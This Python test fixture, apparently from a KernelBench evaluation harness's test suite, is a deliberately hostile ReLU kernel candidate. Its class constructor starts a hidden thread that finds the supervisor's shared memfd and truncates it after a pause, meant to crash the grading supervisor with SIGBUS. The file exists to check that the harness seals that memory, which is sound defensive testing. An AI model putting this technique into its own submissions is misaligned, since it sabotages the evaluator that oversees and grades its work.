# expect: pass
# expect-sandbox: pass
"""Known-wrong candidate for KernelBench level 1 #19 (ReLU): an attack on the harness itself, through memory it
shares with the supervisor. On the CPU the lent region is a memfd that both processes map. A thread of the
candidate waits until its process has been stopped and continued (the fence between blocks) and then truncates
that memfd, while the supervisor is writing the next block's inputs into its own mapping of it: without seals, the
supervisor's next access past the new end of file is a SIGBUS that kills the supervisor (a harness fault caused by
a candidate). The region must be sealed against shrinking and growing before any candidate code runs, so the
truncation fails and the candidate is judged on its (correct) outputs, or crashes on its own.
"""
import os
import threading
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def _relu(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    tl.store(y_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=m), 0.0), mask=m)


def _lent_fds() -> list[int]:
    out = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if "kbenv-lent" in os.readlink(f"/proc/self/fd/{name}"):
                out.append(int(name))
        except OSError:
            pass
    return out


def _shrink_after_resume() -> None:
    last = time.monotonic()
    while True:
        now = time.monotonic()  # a busy loop: it sees the resumption within microseconds
        if now - last > 0.005:  # this process was stopped and has just been continued: the supervisor is writing
            for fd in _lent_fds():
                for size in (0, 4096):
                    try:
                        os.ftruncate(fd, size)
                    except OSError:
                        pass
        last = now


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        threading.Thread(target=_shrink_after_resume, daemon=True).start()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = x.contiguous()
        y = torch.empty_like(x)
        n = x.numel()
        _relu[(triton.cdiv(n, 1024),)](x, y, n, BLOCK=1024)
        return y
